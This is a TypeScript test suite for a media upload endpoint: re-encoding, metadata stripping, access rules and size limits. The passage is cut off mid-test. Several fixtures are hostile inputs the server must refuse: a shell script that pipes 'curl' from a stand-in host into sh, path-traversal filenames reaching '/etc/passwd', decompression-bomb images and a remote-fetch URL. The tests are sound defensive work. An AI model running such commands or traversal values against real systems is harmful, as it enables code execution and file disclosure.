/**
 * The media pipeline over HTTP on the real server: files judged by their bytes, images re-encoded
 * to WebP without metadata, videos stored as sent, everything under `<user>/<folder>/` on disk,
 * uploads streamed to temp files that never outlive their request.
 */
import { execFile } from 'node:child_process'
import { once } from 'node:events'
import { createServer, request as httpRequest, type IncomingMessage } from 'node:http'
import type { AddressInfo } from 'node:net'
import { createWriteStream, existsSync } from 'node:fs'
import { mkdtemp, readdir, readFile, rm, stat } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { finished } from 'node:stream/promises'
import { promisify } from 'node:util'
import { setFlagsFromString } from 'node:v8'
import { runInNewContext } from 'node:vm'
import fc from 'fast-check'
import sharp from 'sharp'
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
import { genericMessages, mediaMessages } from '#domain/messages/common'
import type { Media } from '#payload-types'
import {
  animatedWebpDeclaring,
  flatPng,
  hasGpsTag,
  IMAGE_FORMATS,
  imageDeclaring,
  LARGEST_DECLARED_SIDE,
  mp4,
  mp4Head,
  noisyPng,
  phoneJpeg,
  pngWithGps,
  webm,
} from '../fixtures/media'
import { startTestApp, type TestApp } from '../helpers/app'
import { ApiClient, errorMessage } from '../helpers/client'
import { createAccount, createBarber, createShop, type Account, type BarberAccount, type ShopAccount } from '#server/seed/factories'

type Upload = { bytes: Uint8Array | Blob; name: string; type?: string; payload?: Record<string, unknown>; query?: string }

function uploadForm({ bytes, name, type = 'application/octet-stream', payload = {} }: Upload): FormData {
  const form = new FormData()
  form.append('_payload', JSON.stringify(payload))
  form.append('file', bytes instanceof Blob ? bytes : new Blob([new Uint8Array(bytes)], { type }), name)
  return form
}

function upload(as: ApiClient, file: Upload) {
  return as.request<{ doc: Media }>('POST', `/api/media${file.query ?? ''}`, { body: uploadForm(file) })
}

const BOUNDARY = 'navalha-limite'
type Part = { name: string; filename?: string; content: Uint8Array | string }

/** A multipart body written by hand, so it can be wrong in every way a client can get it wrong. */
function multipart(parts: Part[], { close = true } = {}): Buffer {
  const chunks = parts.flatMap(({ name, filename, content }) => [
    Buffer.from(`--${BOUNDARY}\r\nContent-Disposition: form-data; name="${name}"`),
    Buffer.from(filename === undefined ? '\r\n\r\n' : `; filename="${filename}"\r\nContent-Type: application/octet-stream\r\n\r\n`),
    Buffer.from(content),
    Buffer.from('\r\n'),
  ])
  if (close) chunks.push(Buffer.from(`--${BOUNDARY}--\r\n`))
  return Buffer.concat(chunks)
}

function rawUpload(as: ApiClient, body: Uint8Array, contentType = `multipart/form-data; boundary=${BOUNDARY}`) {
  return as.request('POST', '/api/media', { body: new Uint8Array(body), headers: { 'content-type': contentType } })
}

/** Every answer an upload may get: ours, in Portuguese (domain/messages/), with the default limits. */
const texts = (messages: object) => Object.values(messages).filter((message) => typeof message === 'string') as string[]
const UPLOAD_ANSWERS = new Set<string>([
  ...texts(mediaMessages),
  mediaMessages.imageTooLarge(10),
  mediaMessages.videoTooLarge(100),
  mediaMessages.fileTooLarge(100),
  mediaMessages.videoTooLong(180),
  mediaMessages.imageTooManyPixels(52),
  mediaMessages.uploadStalled(60),
  ...texts(genericMessages),
])

/** Uncaught exceptions while `work` runs: each one would have ended a production server. */
async function uncaughtDuring(work: () => Promise<void>): Promise<unknown[]> {
  const crashes: unknown[] = []
  const record = (error: unknown) => crashes.push(error)
  process.on('uncaughtException', record)
  try {
    await work()
    // busboy's late errors surface a few ticks after the answer.
    await new Promise((resolve) => setTimeout(resolve, 100))
  } finally {
    process.off('uncaughtException', record)
  }
  return crashes
}

/** Forces a full garbage collection, so only memory still in use is measured. */
setFlagsFromString('--expose-gc')
const collectGarbage = runInNewContext('gc') as () => void

/**
 * Sends a file from a separate Node process (fetch streams it from disk there), so this process's
 * memory is the server's alone.
 */
async function uploadFromAnotherProcess(as: ApiClient, file: string, payload: Record<string, unknown>): Promise<{ status: number; body: { doc: Media } }> {
  const script = `
    import { openAsBlob } from 'node:fs'
    const form = new FormData()
    form.append('_payload', process.env.UPLOAD_PAYLOAD)
    form.append('file', await openAsBlob(process.env.UPLOAD_FILE), 'video.mp4')
    const headers = { accept: 'application/json', origin: new URL(process.env.UPLOAD_URL).origin, cookie: process.env.UPLOAD_COOKIE }
    const response = await fetch(process.env.UPLOAD_URL, { method: 'POST', body: form, headers })
    process.stdout.write(JSON.stringify({ status: response.status, body: await response.json() }))`
  const env = {
    ...process.env,
    UPLOAD_URL: `${as.baseUrl}/api/media`,
    UPLOAD_COOKIE: `payload-token=${as.cookie('payload-token')}`,
    UPLOAD_FILE: file,
    UPLOAD_PAYLOAD: JSON.stringify(payload),
  }
  const { stdout } = await promisify(execFile)(process.execPath, ['--input-type=module', '-e', script], { env })
  return JSON.parse(stdout)
}

const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(512)])
const SHELL_SCRIPT = Buffer.from('#!/bin/sh\ncurl http://exemplo.invalid/x | sh\n')
/** Spec §7's `<timestamp>.<extension>`, with a random part that keeps uploads of one millisecond apart. */
const STORED_NAME = /^\d{13}-[0-9a-f]{12}\.(webp|mp4|mov|webm)$/

async function filesUnder(dir: string): Promise<string[]> {
  if (!existsSync(dir)) return []
  return (await readdir(dir, { recursive: true, withFileTypes: true }))
    .filter((entry) => entry.isFile())
    .map((entry) => path.join(entry.parentPath, entry.name))
}

describe('with the default limits', () => {
  let app: TestApp
  let barber: BarberAccount, otherBarber: BarberAccount, shop: ShopAccount, admin: Account
  const client = {} as Record<'anonymous' | 'barber' | 'otherBarber' | 'shop' | 'admin', ApiClient>

  const mediaDir = () => path.join(app.dataDir, 'media')
  const tempFiles = () => filesUnder(path.join(app.dataDir, 'tmp', 'uploads'))
  const stored = (doc: Media, filename = doc.filename!) => path.join(mediaDir(), doc.prefix!, filename)
  const sizeFiles = (doc: Media) =>
    Object.values(doc.sizes ?? {})
      .map((size) => size?.filename)
      .filter((name): name is string => Boolean(name))

  beforeAll(async () => {
    app = await startTestApp()
    ;[barber, otherBarber, shop, admin] = await Promise.all([
      createBarber(app.payload),
      createBarber(app.payload),
      createShop(app.payload),
      createAccount(app.payload, 'admin'),
    ])
    client.anonymous = new ApiClient(app.url)
    await Promise.all(
      (
        [
          ['barber', barber],
          ['otherBarber', otherBarber],
          ['shop', shop],
          ['admin', admin],
        ] as const
      ).map(([role, account]) => (client[role] = new ApiClient(app.url)).login(account.email, account.password)),
    )
  }, 180_000)

  afterAll(() => app?.close())

  describe('images', () => {
    it('re-encodes a phone photo to upright WebP without EXIF or GPS, with its sizes beside it', async () => {
      const sent = await phoneJpeg()
      const original = await sharp(sent).metadata()
      expect([original.format, original.orientation, hasGpsTag(original.exif)]).toEqual(['jpeg', 6, true])

      const response = await upload(client.barber, { bytes: sent, name: 'IMG_0001.JPG', type: 'image/jpeg', payload: { folder: 'photos' } })
      expect(response.status, response.text).toBe(201)
      const doc = response.body.doc
      expect(doc).toMatchObject({ user: barber.user.id, folder: 'photos', prefix: `${barber.user.id}/photos`, mimeType: 'image/webp', width: 200, height: 400 })
      expect(doc.filename).toMatch(STORED_NAME)
      expect(doc.sizes?.thumbnail).toMatchObject({ width: 160, height: 160, mimeType: 'image/webp' })
      expect(doc.sizes?.card).toMatchObject({ width: 200, height: 400, mimeType: 'image/webp' })
      expect(doc.sizes?.full).toMatchObject({ width: 200, height: 400, mimeType: 'image/webp' })

      for (const filename of [doc.filename!, ...sizeFiles(doc)]) {
        const file = stored(doc, filename)
        expect(path.relative(mediaDir(), file)).toBe(`${barber.user.id}/photos/${filename}`)
        const metadata = await sharp(file).metadata()
        expect(metadata.format, filename).toBe('webp')
        expect(metadata.exif, filename).toBeUndefined()
        expect(metadata.xmp, filename).toBeUndefined()
        expect(metadata.orientation, filename).toBeUndefined()
      }
      const upright = await sharp(stored(doc)).metadata()
      expect([upright.width, upright.height]).toEqual([200, 400])
      expect(await tempFiles()).toEqual([])
    })

    it('serves a file only to its owner and admins until a profile shows it, then to anyone with a year of cache', async () => {
      const doc = (await upload(client.shop, { bytes: await pngWithGps(), name: 'logo.png', type: 'image/png', payload: { folder: 'logos' } })).body.doc
      expect(doc.url).toBe(`/media/${shop.user.id}/logos/${doc.filename}`)
      expect(doc.sizes?.card?.url).toBe(`/media/${shop.user.id}/logos/${doc.sizes?.card?.filename}`)
      const as = (who: ApiClient | null) => (url: string) =>
        fetch(app.url + url, { headers: who ? { cookie: `payload-token=${who.cookie('payload-token')}`, origin: app.url } : {} })

      // Uploaded, not on the profile yet: the owner's and the admins' only, kept by no shared cache.
      for (const url of [doc.url!, doc.sizes!.card!.url!]) {
        expect((await as(null)(url)).status).toBe(404)
        expect((await as(client.barber)(url)).status).toBe(404)
        expect((await as(client.admin)(url)).status).toBe(200)
        const own = await as(client.shop)(url)
        expect(own.status).toBe(200)
        expect(own.headers.get('cache-control')).toBe('private, no-cache')
      }
      expect((await client.anonymous.get(`/api/media/${doc.id}`)).status).toBe(404)

      expect((await client.shop.patch(`/api/barbershops/${shop.shop.id}`, { logo: doc.id })).status).toBe(200)
      const served = await fetch(app.url + doc.url!)
      expect(served.status).toBe(200)
      expect(served.headers.get('content-type')).toBe('image/webp')
      expect(served.headers.get('cache-control')).toMatch(/max-age=31536000.*immutable/)
      expect(Buffer.from(await served.arrayBuffer()).equals(await readFile(stored(doc)))).toBe(true)
      expect((await fetch(app.url + doc.sizes!.card!.url!)).status).toBe(200)
      expect((await client.anonymous.get(`/api/media/${doc.id}`)).status).toBe(200)
      const metadata = await sharp(stored(doc)).metadata()
      expect([metadata.format, metadata.exif]).toEqual(['webp', undefined])

      // Payload's own file route sends readers to the same place.
      const viaPayload = await fetch(`${app.url}/api/media/file/${doc.filename}?prefix=${encodeURIComponent(doc.prefix!)}`, { redirect: 'manual' })
      expect(viaPayload.status).toBe(302)
      expect(viaPayload.headers.get('location')).toBe(doc.url)
      expect((await fetch(`${app.url}/media/${shop.user.id}/logos/0000000000000-000000000000.webp`)).status).toBe(404)
      expect((await fetch(`${app.url}/media/%E0%A4%A/x.webp`)).status).toBe(404)

      // Dropped from the profile: private again.
      expect((await client.shop.patch(`/api/barbershops/${shop.shop.id}`, { logo: null })).status).toBe(200)
      expect((await fetch(app.url + doc.url!)).status).toBe(404)
      expect((await client.anonymous.get(`/api/media/${doc.id}`)).status).toBe(404)
    })

    it('bounds the stored original and derives each size from it', async () => {
      const wide = await sharp({ create: { width: 3200, height: 800, channels: 3, background: '#1d4ed8' } })
        .jpeg()
        .toBuffer()
      const doc = (await upload(client.shop, { bytes: wide, name: 'fachada.jpg', type: 'image/jpeg', payload: { folder: 'shop-photos' } })).body.doc
      expect([doc.width, doc.height]).toEqual([2560, 640])
      expect(doc.sizes?.full).toMatchObject({ width: 1600, height: 400 })
      expect(doc.sizes?.card).toMatchObject({ width: 480, height: 120 })
      expect(doc.sizes?.thumbnail).toMatchObject({ width: 160, height: 160 })
      expect(doc.prefix).toBe(`${shop.user.id}/shop-photos`)
    })

    it('ignores crop edits, which would skip the WebP re-encoding', async () => {
      const query = '?uploadEdits[crop][x]=0&uploadEdits[crop][y]=0&uploadEdits[widthInPixels]=50&uploadEdits[heightInPixels]=50'
      const response = await upload(client.barber, { bytes: await phoneJpeg(), name: 'foto.jpg', type: 'image/jpeg', payload: { folder: 'photos' }, query })
      expect(response.status, response.text).toBe(201)
      const metadata = await sharp(stored(response.body.doc)).metadata()
      expect([metadata.format, metadata.width, metadata.height, metadata.exif]).toEqual(['webp', 200, 400, undefined])
    })
  })

  describe('refusals', () => {
    it.each([
      ['an executable renamed foto.png', ELF, 'foto.png', 'image/png', 'photos', mediaMessages.imageType],
      ['a shell script renamed foto.png', SHELL_SCRIPT, 'foto.png', 'image/png', 'logos', mediaMessages.imageType],
      ['a text file named .png', Buffer.from('não sou uma imagem'), 'imagem.png', 'image/png', 'shop-photos', mediaMessages.imageType],
      ['an executable renamed video.mp4', ELF, 'video.mp4', 'video/mp4', 'videos', mediaMessages.videoType],
      ['an image sent to the videos folder', 'png', 'video.mp4', 'video/mp4', 'videos', mediaMessages.videoType],
      ['a video sent to the photos folder', 'mp4', 'foto.jpg', 'image/jpeg', 'photos', mediaMessages.imageType],
    ] as const)('refuses %s, whatever its name and declared type', async (_case, content, name, type, folder, message) => {
      // Accounts come with their profile's video: what counts is that this test adds no file.
      const storedBefore = await filesUnder(path.join(mediaDir(), String(otherBarber.user.id)))
      const bytes = content === 'png' ? await pngWithGps() : content === 'mp4' ? mp4({ seconds: 5 }) : content
      const response = await upload(client.otherBarber, { bytes, name, type, payload: { folder } })
      expect(response.status, response.text).toBe(400)
      expect(errorMessage(response.body)).toBe(message)
      expect(await filesUnder(path.join(mediaDir(), String(otherBarber.user.id)))).toEqual(storedBefore)
      expect(await tempFiles()).toEqual([])
    })

    it('refuses an image over its own limit with 413 and leaves no temp file', async () => {
      const bytes = await noisyPng()
      expect(bytes.length).toBeGreaterThan(10 * 1024 * 1024)
      const response = await upload(client.otherBarber, { bytes, name: 'grande.png', type: 'image/png', payload: { folder: 'photos' } })
      expect(response.status).toBe(413)
      expect(errorMessage(response.body)).toBe('A imagem passa do limite de 10 MB.')
      expect(await tempFiles()).toEqual([])
    })

    it('asks for a folder and a file', async () => {
      for (const payload of [{}, { folder: 'documentos' }, { folder: '../photos' }]) {
        const response = await upload(client.otherBarber, { bytes: await pngWithGps(), name: 'foto.png', type: 'image/png', payload })
        expect(response.status).toBe(400)
        expect(errorMessage(response.body)).toBe(mediaMessages.folderInvalid)
      }
      const withoutFile = await client.otherBarber.post('/api/media', { folder: 'photos' })
      expect(withoutFile.status).toBe(400)
      expect(errorMessage(withoutFile.body)).toBe(mediaMessages.fileMissing)
      expect(await tempFiles()).toEqual([])
    })

    it('answers a body Payload cannot take apart in Portuguese with a 4xx, and keeps running', async () => {
      // Accounts come with their profile's video: what counts is that this test adds no file.
      const storedBefore = await filesUnder(path.join(mediaDir(), String(otherBarber.user.id)))
      const png = await pngWithGps()
      const payload = { name: '_payload', content: JSON.stringify({ folder: 'photos' }) }
      const photo = { name: 'file', filename: 'foto.png', content: png }
      const fields = Array.from({ length: 21 }, (_, index) => ({ name: `campo${index}`, content: 'x' }))
      const stored = (await upload(client.barber, { bytes: png, name: 'foto.png', payload: { folder: 'photos' } })).body.doc
      const reference = JSON.stringify({ filename: stored.filename, clientUploadContext: { prefix: stored.prefix }, mimeType: 'image/webp', size: 10 })
      const cases: [string, Buffer, string | undefined, number, string][] = [
        ['a _payload that is not JSON', multipart([{ name: '_payload', content: '{pasta: fotos' }, photo]), undefined, 400, mediaMessages.malformedUpload],
        ['a body cut inside the file', multipart([payload, photo], { close: false }).subarray(0, -100), undefined, 400, mediaMessages.malformedUpload],
        ['a file name with a control character', multipart([payload, { ...photo, filename: 'foto\u0001.png' }]), undefined, 400, mediaMessages.malformedUpload],
        ['a multipart type without a boundary', multipart([payload, photo]), 'multipart/form-data', 400, mediaMessages.malformedUpload],
        ['an empty boundary', multipart([payload, photo]), 'multipart/form-data; boundary=', 400, mediaMessages.malformedUpload],
        ['four files', multipart([payload, photo, photo, photo, photo]), undefined, 413, mediaMessages.tooManyParts],
        ['more than 20 fields', multipart([payload, ...fields, photo]), undefined, 413, mediaMessages.tooManyParts],
        ['a field over 1 MB', multipart([payload, { name: 'alt', content: 'a'.repeat(1024 * 1024 + 1) }, photo]), undefined, 413, mediaMessages.tooManyParts],
        // These two used to end the process: a file part after Payload had given up on the body.
        [
          'too many fields, then a file cut short',
          multipart([...fields, photo], { close: false }).subarray(0, -100),
          undefined,
          413,
          mediaMessages.tooManyParts,
        ],
        [
          'a malformed part, then a file',
          multipart([{ ...photo, filename: '\u0001' }, photo], { close: false }),
          undefined,
          400,
          mediaMessages.malformedUpload,
        ],
        [
          'a file field naming a stored file instead of carrying one',
          multipart([payload, { name: 'file', content: reference }]),
          undefined,
          400,
          mediaMessages.fileMissing,
        ],
        ['a file field holding text', multipart([payload, { name: 'file', content: 'foto.png' }]), undefined, 400, mediaMessages.fileMissing],
        // Found by the property below: a file field holding JSON null, with or without _payload.
        ['a file field holding null', multipart([{ name: 'file', content: 'null' }]), undefined, 400, mediaMessages.fileMissing],
        ['a file field holding null after _payload', multipart([payload, { name: 'file', content: 'null' }]), undefined, 400, mediaMessages.fileMissing],
        [
          'a filename climbing out of its folder',
          multipart([{ name: '_payload', content: JSON.stringify({ folder: 'photos', filename: '../x.webp' }) }, photo]),
          undefined,
          400,
          mediaMessages.filenameInvalid,
        ],
        [
          'a size named by an absolute path',
          multipart([{ name: '_payload', content: JSON.stringify({ folder: 'photos', sizes: { card: { filename: '/etc/passwd' } } }) }, photo]),
          undefined,
          400,
          mediaMessages.filenameInvalid,
        ],
      ]
      const crashes = await uncaughtDuring(async () => {
        for (const [name, body, contentType, status, message] of cases) {
          const response = await rawUpload(client.otherBarber, body, contentType)
          expect([name, response.status, errorMessage(response.body)]).toEqual([name, status, message])
        }
      })
      expect(crashes).toEqual([])
      expect((await client.anonymous.get('/api/health')).status).toBe(200)
      expect(await filesUnder(path.join(mediaDir(), String(otherBarber.user.id)))).toEqual(storedBefore)
      await vi.waitFor(async () => expect(await tempFiles()).toEqual([]))
    })

    it('answers any multipart body, well formed or not, with a 2xx or one of its own messages, and keeps running', async () => {
      const png = await pngWithGps()
      const content = fc.oneof(
        fc.constant<Uint8Array | string>(png),
        fc.constantFrom(JSON.stringify({ folder: 'photos' }), JSON.stringify({ folder: 'videos' }), '{'),
        fc.json(),
        fc
          .record({ folder: fc.constantFrom('photos', 'logos', 'x'), alt: fc.string(), filename: fc.string(), user: fc.jsonValue() })
          .map((data) => JSON.stringify(data)),
        fc.string(),
        fc.uint8Array({ maxLength: 64 }),
      )
      const part = fc.record({
        name: fc.oneof({ weight: 9, arbitrary: fc.constantFrom('_payload', 'file', 'alt', 'folder') }, { weight: 1, arbitrary: fc.string({ maxLength: 8 }) }),
        filename: fc.oneof(
          { weight: 4, arbitrary: fc.constant(undefined) },
          { weight: 4, arbitrary: fc.constantFrom('foto.png', '../foto.png', '', 'minha foto.jpg') },
          { weight: 1, arbitrary: fc.string({ maxLength: 8 }) },
        ),
        content,
      })
      const body = fc
        .record({
          parts: fc.array(part, { maxLength: 4 }),
          close: fc.oneof({ weight: 4, arbitrary: fc.constant(true) }, { weight: 1, arbitrary: fc.constant(false) }),
          cutAt: fc.oneof({ weight: 3, arbitrary: fc.constant(undefined) }, { weight: 1, arbitrary: fc.nat() }),
          contentType: fc.oneof(
            { weight: 8, arbitrary: fc.constant(`multipart/form-data; boundary=${BOUNDARY}`) },
            { weight: 1, arbitrary: fc.constantFrom('multipart/form-data', 'multipart/form-data; boundary=', 'multipart/form-data; boundary=outra') },
          ),
        })
        .map(({ parts, close, cutAt, contentType }) => {
          const bytes = multipart(parts, { close })
          return { bytes: cutAt === undefined || !bytes.length ? bytes : bytes.subarray(0, cutAt % bytes.length), contentType }
        })
      const crashes = await uncaughtDuring(() =>
        fc.assert(
          fc.asyncProperty(body, async ({ bytes, contentType }) => {
            const response = await rawUpload(client.otherBarber, bytes, contentType)
            if (response.status === 201) return
            expect(response.status, response.text).toBeGreaterThanOrEqual(400)
            expect(response.status, response.text).toBeLessThan(500)
            expect(UPLOAD_ANSWERS, response.text).toContain(errorMessage(response.body))
          }),
          { numRuns: 200 },
        ),
      )
      expect(crashes).toEqual([])
      expect((await client.anonymous.get('/api/health')).status).toBe(200)
      await vi.waitFor(async () => expect(await tempFiles()).toEqual([]))
    })

    it('refuses a create that names a remote file instead of sending one, and fetches nothing', async () => {
      let fetched = 0
      const remote = createServer(async (_request, response) => {
        fetched++
        response.setHeader('content-type', 'image/png')
        response.end(await flatPng(9000, 6000))
      })
      await new Promise<void>((resolve) => remote.listen(0, '127.0.0.1', resolve))
      try {
        const url = `http://localhost:${(remote.address() as AddressInfo).port}/foto.png`
        for (const as of [client.barber, client.admin]) {
          const response = await as.post('/api/media', { folder: 'photos', filename: 'foto.png', url, user: barber.user.id })
          expect(response.status, response.text).toBe(400)
          expect(errorMessage(response.body)).toBe(mediaMessages.fileMissing)
        }
        expect(fetched).toBe(0)
      } finally {
        remote.close()
      }
    })

    it('refuses an MP4 whose boxes do not add up (cut short while it was written)', async () => {
      const response = await upload(client.otherBarber, { bytes: mp4({ seconds: 5 }).subarray(0, -100), name: 'video.mp4', payload: { folder: 'videos' } })
      expect(response.status).toBe(400)
      expect(errorMessage(response.body)).toBe(mediaMessages.videoUnreadable)
      expect(await tempFiles()).toEqual([])
    })

    it('drops a file that stops arriving for a minute, with 408', { timeout: 120_000 }, async () => {
      const head = multipart([{ name: '_payload', content: JSON.stringify({ folder: 'videos' }) }], { close: false })
      const fileHead = Buffer.from(`--${BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="video.mp4"\r\n\r\n`)
      const request = httpRequest(`${app.url}/api/media`, {
        method: 'POST',
        headers: {
          'content-type': `multipart/form-data; boundary=${BOUNDARY}`,
          'transfer-encoding': 'chunked',
          accept: 'application/json',
          origin: app.url,
          cookie: `payload-token=${client.otherBarber.cookie('payload-token')}`,
        },
      })
      const answered = once(request, 'response') as Promise<[IncomingMessage]>
      // Half of a video, then silence: Payload gives up after 60 s without a byte.
      request.write(Buffer.concat([head, fileHead, mp4({ seconds: 5 }).subarray(0, 512)]))
      const [response] = await answered
      const body = JSON.parse(Buffer.concat(await response.toArray()).toString())
      request.destroy()
      expect(response.statusCode).toBe(408)
      expect(errorMessage(body)).toBe(mediaMessages.uploadStalled(60))
      await vi.waitFor(async () => expect(await tempFiles()).toEqual([]))
    })

    it('tells anyone the limits it holds uploads to (GET /api/media-limits)', async () => {
      const response = await client.anonymous.get('/api/media-limits')
      expect(response.status).toBe(200)
      expect(response.body).toEqual({ maxImageBytes: 10 * 1024 * 1024, maxVideoBytes: 100 * 1024 * 1024, maxVideoSeconds: 180 })
    })

    it('refuses visitors with 403 and keeps nothing', async () => {
      const response = await upload(client.anonymous, { bytes: await pngWithGps(), name: 'foto.png', type: 'image/png', payload: { folder: 'photos' } })
      expect(response.status).toBe(403)
      expect(await tempFiles()).toEqual([])
    })
  })

  describe('pixels', () => {
    const MAX_PIXELS = 52_000_000
    const tooManyPixels = mediaMessages.imageTooManyPixels(52)
    const sendImage = (bytes: Buffer, format: string) =>
      upload(client.otherBarber, { bytes, name: `foto.${format}`, type: `image/${format}`, payload: { folder: 'photos' } })

    it('answers by the pixels a header declares, on both sides of the limit and far past it, before decoding anything', async () => {
      // Accounts come with their profile's video: what counts is that this test adds no file.
      const storedBefore = await filesUnder(path.join(mediaDir(), String(otherBarber.user.id)))
      // A few pixels either side of 52 MP, in every format: the 16 × 16 pixels behind the header cannot fill it.
      const nearTheLimit = fc
        .record({ format: fc.constantFrom(...IMAGE_FORMATS), width: fc.integer({ min: 3200, max: 16_383 }), offset: fc.integer({ min: -2, max: 2 }) })
        .map(({ format, width, offset }) => ({ format, width, height: Math.floor(MAX_PIXELS / width) + offset }))
      // Decompression bombs: any size past the limit that the format can declare, in a few hundred bytes.
      const bombs = fc
        .constantFrom(...IMAGE_FORMATS)
        .chain((format) => {
          const side = fc.integer({ min: 1, max: LARGEST_DECLARED_SIDE[format] })
          return fc.record({ format: fc.constant(format), width: side, height: side })
        })
        .filter(({ width, height }) => width * height > MAX_PIXELS)
      await fc.assert(
        fc.asyncProperty(fc.oneof(nearTheLimit, bombs), async ({ format, width, height }) => {
          const bytes = await imageDeclaring(format, width, height)
          expect(bytes.length).toBeLessThan(1024)
          const response = await sendImage(bytes, format)
          expect(response.status, response.text).toBe(400)
          expect(errorMessage(response.body)).toBe(width * height > MAX_PIXELS ? tooManyPixels : mediaMessages.imageUnreadable)
        }),
        { numRuns: 40 },
      )
      expect(await filesUnder(path.join(mediaDir(), String(otherBarber.user.id)))).toEqual(storedBefore)
      expect(await tempFiles()).toEqual([])
      expect((await client.anonymous.get('/api/health')).status).toBe(200)
    })

    it('counts every frame of an animated WebP', async () => {
      const response = await sendImage(await animatedWebpDeclaring(4000, 4), 'webp')
      expect(response.status).toBe(400)
      expect(errorMessage(response.body)).toBe(tooManyPixels)
      const small = await upload(client.barber, { bytes: await animatedWebpDeclaring(16, 4), name: 'gif.webp', payload: { folder: 'photos' } })
      expect(small.status, small.text).toBe(201)
    })

    it('takes a real 50 MP phone photo and refuses one just past 52 MP', async () => {
      const fifty = await upload(client.barber, { bytes: await flatPng(8192, 6144), name: 'foto.png', payload: { folder: 'photos' } })
      expect(fifty.status, fifty.text).toBe(201)
      expect(fifty.body.doc).toMatchObject({ width: 2560, height: 1920, mimeType: 'image/webp' })
      const past = await sendImage(await flatPng(8192, 6400), 'png')
      expect(past.status).toBe(400)
      expect(errorMessage(past.body)).toBe(tooManyPixels)
    })

    it('decodes one image at a time, however many uploads arrive together', async () => {
      const photo = await flatPng(7000, 7000)
      // libvips's own count of images it is working on, read while six 49 MP photos go through.
      let mostAtOnce = 0
      const sampler = setInterval(() => (mostAtOnce = Math.max(mostAtOnce, sharp.counters().process)), 2)
      const responses = await Promise.all(
        Array.from({ length: 6 }, () => upload(client.shop, { bytes: photo, name: 'fachada.png', payload: { folder: 'shop-photos' } })),
      ).finally(() => clearInterval(sampler))
      expect(responses.map((response) => response.status)).toEqual(Array(6).fill(201))
      expect(mostAtOnce).toBe(1)
    })
  })

  describe('videos', () => {
    it.each([
      ['an MP4', mp4({ seconds: 12 }), 'video/mp4', 'mp4', 12],
      ['a MOV with its header at the end', mp4({ seconds: 95.5, brand: 'qt  ', moovAtEnd: true }), 'video/quicktime', 'mov', 95.5],
      ['a WebM', webm({ seconds: 48.25, knownSize: true }), 'video/webm', 'webm', 48.25],
      ['a WebM recorded by a browser (no length in it)', webm(), 'video/webm', 'webm', null],
    ] as const)('stores %s as sent, with its length', async (_case, bytes, mimeType, extension, duration) => {
      const response = await upload(client.barber, { bytes, name: 'apresentacao.bin', type: 'application/octet-stream', payload: { folder: 'videos' } })
      expect(response.status, response.text).toBe(201)
      const doc = response.body.doc
      expect(doc).toMatchObject({ mimeType, duration, prefix: `${barber.user.id}/videos`, filesize: bytes.length })
      expect(doc.filename).toMatch(STORED_NAME)
      expect(doc.filename!.endsWith(`.${extension}`)).toBe(true)
      expect((await readFile(stored(doc))).equals(bytes)).toBe(true)
      expect(await tempFiles()).toEqual([])
    })

    it.each([
      ['an MP4', mp4({ seconds: 181, moovAtEnd: true }), 'longo.mp4'],
      ['a WebM', webm({ seconds: 181 }), 'longo.webm'],
    ])('refuses %s longer than 3 minutes', async (_case, bytes, name) => {
      const response = await upload(client.barber, { bytes, name, type: 'application/octet-stream', payload: { folder: 'videos' } })
      expect(response.status).toBe(400)
      expect(errorMessage(response.body)).toBe('O vídeo passa do limite de 3 minutos.')
      expect(await tempFiles()).toEqual([])
    })

    it('streams a 99 MB video to a temp file and copies it, never holding it in memory', async () => {
      const work = await mkdtemp(path.join(tmpdir(), 'navalha-video-'))
      try {
        const source = path.join(work, 'grande.mp4')
        const mdatBytes = 99 * 1024 * 1024
        const out = createWriteStream(source)
        out.write(mp4Head({ seconds: 60, mdatBytes }))
        const chunk = Buffer.alloc(1024 * 1024, 0x2a)
        for (let written = 0; written < mdatBytes; written += chunk.length) if (!out.write(chunk)) await once(out, 'drain')
        out.end()
        await finished(out)
        const size = (await stat(source)).size

        // Memory still reachable after a full collection, sampled while the server receives the file.
        const liveBuffers = () => (collectGarbage(), process.memoryUsage().arrayBuffers)
        const before = liveBuffers()
        let peakLive = 0
        let largestTempFile = 0
        const memorySampler = setInterval(() => (peakLive = Math.max(peakLive, liveBuffers() - before)), 200)
        const tempSampler = setInterval(async () => {
          for (const file of await tempFiles())
            largestTempFile = Math.max(
              largestTempFile,
              await stat(file).then(
                (s) => s.size,
                () => 0,
              ),
            )
        }, 50)
        const response = await uploadFromAnotherProcess(client.barber, source, { folder: 'videos' }).finally(() => {
          clearInterval(memorySampler)
          clearInterval(tempSampler)
        })

        expect(response.status, JSON.stringify(response.body)).toBe(201)
        expect(response.body.doc).toMatchObject({ filesize: size, duration: 60, mimeType: 'video/mp4' })
        expect((await stat(stored(response.body.doc))).size).toBe(size)
        // The bytes went to disk while they arrived...
        expect(largestTempFile).toBeGreaterThan(size / 2)
        // ...and were never gathered in memory: holding the file keeps all of it alive (measured: 99 MB,
        // then 190 MB while Payload joins the chunks); streaming keeps a few chunks at a time.
        expect(peakLive).toBeLessThan(size / 2)
        expect(await tempFiles()).toEqual([])
      } finally {
        await rm(work, { recursive: true, force: true })
      }
    }, 180_000)
  })

  describe('ownership and placement', () => {
    it('files an upload under the uploader, whatever the body says', async () => {
      // Accounts come with their profile's video: what counts is that this test adds no file.
      const storedBefore = await filesUnder(path.join(mediaDir(), String(otherBarber.user.id)))
      const payload = {
        folder: 'photos',
        user: otherBarber.user.id,
        prefix: `${otherBarber.user.id}/photos`,
        filename: 'perfil.webp',
        url: 'http://exemplo.invalid/x.webp',
        _objectKey: 'x',
        sizes: {},
        duration: 1,
      }
      const response = await upload(client.barber, { bytes: await pngWithGps(), name: '../../../perfil.png', type: 'image/png', payload })
      expect(response.status, response.text).toBe(201)
      const doc = response.body.doc
      expect(doc).toMatchObject({
        user: barber.user.id,
        prefix: `${barber.user.id}/photos`,
        url: `/media/${barber.user.id}/photos/${doc.filename}`,
        duration: null,
      })
      expect(doc.filename).toMatch(STORED_NAME)
      expect(existsSync(stored(doc))).toBe(true)
      expect(await filesUnder(path.join(mediaDir(), String(otherBarber.user.id)))).toEqual(storedBefore)

      const traversal = await upload(client.barber, {
        bytes: await pngWithGps(),
        name: 'foto.png',
        type: 'image/png',
        payload: { folder: 'photos', filename: '../../../etc/passwd' },
      })
      expect(traversal.status).toBe(400)
